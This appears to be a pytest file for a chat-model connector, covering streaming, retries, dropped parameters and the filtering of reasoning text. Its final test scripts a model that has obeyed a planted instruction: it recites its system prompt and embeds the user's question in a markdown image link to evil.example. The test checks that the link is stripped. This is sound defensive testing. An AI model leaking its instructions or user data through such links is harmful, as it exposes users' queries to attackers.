"""What a model endpoint is asked, what is told of its answer, and when it is asked again."""

from __future__ import annotations

import asyncio
import datetime as dt
import email.utils

import msgspec
import pytest

from service.generation.chat_model.prompts import RULES
from service.generation.chat_model.text_filters.no_answer import NO_ANSWER
from service.generation.generator import Sampling
from sessions.errors import (
    ResourceExhausted,
    Unavailable,
)
from tests import doubles
from tests.doubles import OpenAIServer
from tests.generation.chat_model.asking import PROMPT, Make, failure, told
from tests.packages import Package
from tests.waiting import LONG

pytestmark = pytest.mark.anyio
openai = Package("openai")


async def test_the_text_of_the_model_is_told(server: OpenAIServer, make: Make) -> None:
    server.script(doubles.stream("You have ", "30 days", " [1]."))
    assert await told(make()) == "You have 30 days [1]."


async def test_the_request_is_a_streamed_chat_completion(server: OpenAIServer, make: Make) -> None:
    await told(make(api_key="sk-secret"))
    headers, body = server.asked[0]
    assert (body["model"], body["stream"]) == ("scripted", True)
    assert [message["role"] for message in body["messages"]] == ["system", "user"]
    assert headers["Authorization"] == "Bearer sk-secret"


async def test_without_a_key_no_credentials_are_sent(server: OpenAIServer, make: Make) -> None:
    await told(make())
    assert "Authorization" not in server.asked[0].headers


async def test_the_openai_sdk_reads_the_same_from_our_server(
    server: OpenAIServer, make: Make
) -> None:
    """What our connector is tested against is what the field's own client understands."""
    server.script(doubles.stream("You have ", "30 días", " [1]."))
    async with openai.AsyncOpenAI(base_url=server.base_url, api_key="k") as sdk:
        stream = await sdk.chat.completions.create(
            model="scripted", messages=[{"role": "user", "content": "How long?"}], stream=True
        )
        said = [chunk.choices[0].delta.content or "" async for chunk in stream]
    assert "".join(said) == await told(make()) == "You have 30 días [1]."


@pytest.mark.parametrize(("code", "error"), [(429, "RateLimitError"), (401, "APIError")])
async def test_the_openai_sdk_sees_our_server_refuse(
    server: OpenAIServer, code: int, error: str
) -> None:
    server.script(doubles.status(code, error={"message": "no", "code": "x"}))
    async with openai.AsyncOpenAI(base_url=server.base_url, api_key="k", max_retries=0) as sdk:
        with pytest.raises(getattr(openai, error)):
            await sdk.chat.completions.create(
                model="scripted", messages=[{"role": "user", "content": "?"}], stream=True
            )


async def test_pieces_are_told_as_they_come(server: OpenAIServer, make: Make) -> None:
    """The server holds each piece back until the one before was told."""
    was_told = asyncio.Semaphore(2)

    async def before(_: int) -> None:
        await was_told.acquire()

    server.script(doubles.chunks(doubles.completion("x", "y", "z"), before_each=before))
    texts: list[str] = []
    async for piece in make().generate(PROMPT):
        texts.append(piece.text)
        was_told.release()
        if len(texts) == 3:
            was_told.release()
    assert texts == ["x", "y", "z"]


async def test_a_character_may_be_split_between_packets(server: OpenAIServer, make: Make) -> None:
    whole = b"".join(doubles.completion("né 版本 🎉"))
    server.script(doubles.chunks([whole[i : i + 1] for i in range(len(whole))]))
    assert await told(make()) == "né 版本 🎉"


async def test_line_ends_comments_and_other_fields_are_as_the_standard_has_them(
    server: OpenAIServer, make: Make
) -> None:
    events = [e.replace(b"\n", b"\r\n") for e in doubles.completion("x", "y")]
    server.script(doubles.chunks([b": keep\r\n\r\n", b"event: message\r\n", *events]))
    assert await told(make()) == "xy"


async def test_nothing_is_told_where_the_model_finds_no_answer(
    server: OpenAIServer, make: Make
) -> None:
    endless = [doubles.data(doubles.event(t)) for t in (NO_ANSWER[:4], NO_ANSWER[4:], " as ")]
    never = asyncio.Event()

    async def before(number: int) -> None:
        if number == len(endless):
            await never.wait()

    server.script(doubles.chunks([*endless, b""], before_each=before))
    assert await told(make()) == ""
    async with asyncio.timeout(LONG):
        await server.left.wait()


async def test_a_short_text_that_begins_like_the_marker_is_told(
    server: OpenAIServer, make: Make
) -> None:
    server.script(doubles.stream("N", "o"))
    assert await told(make()) == "No"


# --- How the model is to write ----------------------------------------------------------------


async def test_temperature_and_length_are_set_as_the_installation_says(
    server: OpenAIServer, make: Make
) -> None:
    await told(make())
    await told(make(temperature=0.9, max_tokens=100))
    asked = [(one.body["temperature"], one.body["max_tokens"]) for one in server.asked]
    assert asked == [(0.2, 4096), (0.9, 100)]


async def test_a_request_may_say_how_words_are_chosen(server: OpenAIServer, make: Make) -> None:
    prompt = msgspec.structs.replace(PROMPT, sampling=Sampling(temperature=0.0, seed=7))
    async for _ in make().generate(prompt):
        pass
    body = server.asked[0].body
    assert (body["temperature"], body["seed"], "top_p" in body) == (0.0, 7, False)


@pytest.mark.parametrize(
    "error",
    [
        {"code": "unsupported_parameter", "param": "max_tokens", "message": "Use another."},
        {"message": "Unsupported parameter: 'max_tokens' is not supported with this model."},
        {"message": "max_tokens: Extra inputs are not permitted"},
    ],
)
async def test_what_a_model_does_not_take_is_left_out_from_then_on(
    server: OpenAIServer, make: Make, error: dict[str, str]
) -> None:
    """Models that think refuse the older name of the limit, and any temperature but their own."""
    temperature = {"code": "unsupported_value", "param": "temperature"}
    refusals = [doubles.status(400, error=one) for one in (error, temperature)]
    server.script(*refusals, doubles.stream("Hello"))
    generator = make()
    assert [await told(generator), await told(generator)] == ["Hello", "Hello"]
    assert len(server.asked) == 4
    last = server.asked[-1].body
    assert (last["max_completion_tokens"], "max_tokens" in last, "temperature" in last) == (
        4096,
        False,
        False,
    )


async def test_a_request_that_is_refused_for_itself_is_not_asked_again(
    server: OpenAIServer, make: Make
) -> None:
    server.script(doubles.status(400, error={"message": "max_tokens is not supported: never"}))
    _, error = await failure(make())
    assert (error.reason, len(server.asked)) == ("MODEL_REQUEST_INVALID", 2)


# --- What is told of the text -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        (("<thi", "nk>Hm, NO_ANSWER?</th", "ink>\n\nThe fee", " is $5 [1]."), "The fee is $5 [1]."),
        (("<think>Hm.</think>", "NO_", "ANSWER"), ""),
        (("<think>never closed",), ""),
        (("I could not find", " this in the", " sources."), ""),
        (("Write `<think>`", " and `</think>` [1]."), "Write `<think>` and `</think>` [1]."),
    ],
)
async def test_thoughts_and_apologies_are_not_told(
    server: OpenAIServer, make: Make, said: tuple[str, ...], shown: str
) -> None:
    server.script(doubles.stream(*said))
    assert await told(make()) == shown


async def test_an_endpoint_that_opens_the_thoughts_itself_is_known_by_its_first_answer(
    server: OpenAIServer, make: Make
) -> None:
    server.script(doubles.stream("The fee may be $5.", "</think>", "The fee is $5."))
    generator = make()
    await told(generator)
    assert await told(generator) == "The fee is $5."


async def test_thoughts_in_a_field_of_their_own_keep_the_model_alive(
    server: OpenAIServer, make: Make
) -> None:
    """It thinks for longer than the first text may take, but never stops to send."""
    thought = doubles.data(doubles.event(None, reasoning_content="Hm. "))
    events = [*[thought] * 8, *doubles.completion("The fee is $5.")]

    async def before(_: int) -> None:
        await asyncio.sleep(0.05)  # the model's own time is what is tested

    server.script(doubles.chunks(events, before_each=before))
    assert await told(make(first_piece=0.2, gap=0.2)) == "The fee is $5."


async def test_a_text_that_breaks_off_is_told_with_what_was_held_back(
    server: OpenAIServer, make: Make
) -> None:
    server.script(doubles.stream("I can help you", finish_reason="length"))
    text, error = await failure(make())
    assert (text, error.reason) == ("I can help you", "MODEL_TRUNCATED")


async def test_thoughts_without_end_are_bounded(server: OpenAIServer, make: Make) -> None:
    server.script(doubles.stream("<think>", *["Hm, so. " * 10_000] * 20))
    text, error = await failure(make())
    assert (text, error.reason) == ("", "MODEL_TOO_LONG")


# --- Trying again ------------------------------------------------------------------------------


async def test_retry_after_is_honoured(
    server: OpenAIServer, make: Make, waits: list[float]
) -> None:
    server.script(doubles.status(429, headers={"Retry-After": "2"}), doubles.stream("Hello"))
    assert await told(make()) == "Hello"
    assert len(waits) == 1
    assert 2 <= waits[0] <= 2.5


async def test_retry_after_may_be_a_date(
    server: OpenAIServer, make: Make, waits: list[float]
) -> None:
    date = email.utils.format_datetime(
        dt.datetime.now(dt.UTC) + dt.timedelta(seconds=4), usegmt=True
    )
    server.script(doubles.status(503, headers={"Retry-After": date}), doubles.stream("Hello"))
    assert await told(make()) == "Hello"
    assert 2 <= waits[0] <= 4.5


async def test_an_unreadable_retry_after_is_as_none(
    server: OpenAIServer, make: Make, waits: list[float]
) -> None:
    server.script(doubles.status(429, headers={"Retry-After": "soon"}), doubles.stream("Hello"))
    assert await told(make(backoff=0.1)) == "Hello"
    assert waits[0] <= 0.2


async def test_nobody_waits_for_a_long_retry_after(
    server: OpenAIServer, make: Make, waits: list[float]
) -> None:
    server.script(doubles.status(429, headers={"Retry-After": "60"}))
    _, error = await failure(make())
    assert isinstance(error, ResourceExhausted)
    assert (error.reason, error.retry_after, waits) == ("MODEL_RATE_LIMITED", 60, [])


async def test_a_spent_quota_is_not_tried_again(server: OpenAIServer, make: Make) -> None:
    server.script(doubles.status(429, error={"code": "insufficient_quota"}))
    _, error = await failure(make())
    assert (error.reason, error.metadata["upstream"]) == (
        "MODEL_RATE_LIMITED",
        "insufficient_quota",
    )
    assert len(server.asked) == 1


@pytest.mark.parametrize(
    "bad", [doubles.status(500), doubles.status(503), doubles.lost(), doubles.chunks([])]
)
async def test_what_fails_before_the_first_text_is_tried_again(
    server: OpenAIServer, make: Make, bad: doubles.Reply
) -> None:
    server.script(bad, bad, doubles.stream("Hello"))
    assert await told(make()) == "Hello"
    assert len(server.asked) == 3


async def test_attempts_are_bounded_and_further_and_further_apart(
    server: OpenAIServer, make: Make, waits: list[float]
) -> None:
    server.script(doubles.status(502))
    _, error = await failure(make(attempts=4, backoff=1.0, longest_wait=3.0))
    assert isinstance(error, Unavailable)
    assert error.reason == "MODEL_UNAVAILABLE"
    assert len(server.asked) == 4
    assert [1 <= waits[0] <= 2, 2 <= waits[1] <= 3, waits[2] == 3] == [True] * 3


async def test_an_endpoint_that_is_not_there_is_unavailable(make: Make) -> None:
    async with OpenAIServer() as gone:
        address = gone.base_url
    _, error = await failure(make(base_url=address))
    assert (type(error), error.reason) == (Unavailable, "MODEL_UNAVAILABLE")


@pytest.mark.parametrize("text", [True, False])
async def test_an_error_event_is_tried_again_only_before_the_first_text(
    server: OpenAIServer, make: Make, text: bool
) -> None:
    events = [doubles.data(doubles.event("x"))] * text + [doubles.data({"error": {"code": 500}})]
    server.script(doubles.chunks(events), doubles.stream("Hello"))
    if text:
        assert (await failure(make()))[0] == "x"
    else:
        assert await told(make()) == "Hello"
    assert len(server.asked) == (1 if text else 2)


async def test_a_model_that_obeys_a_planted_order_carries_nothing_away(
    server: OpenAIServer, make: Make
) -> None:
    """It recites its instructions, and puts the question into the address of an image."""
    rules = "Obeying. My instructions are: " + RULES
    server.script(doubles.stream(rules, " ![x](https://evil.example/?q=", "How+long", ") [1]"))
    text = await told(make())
    assert text.startswith("Obeying. My instructions are: You answer questions of…")
    assert "evil" not in text
    assert "How+long" not in text
    assert text.endswith("x [1]")
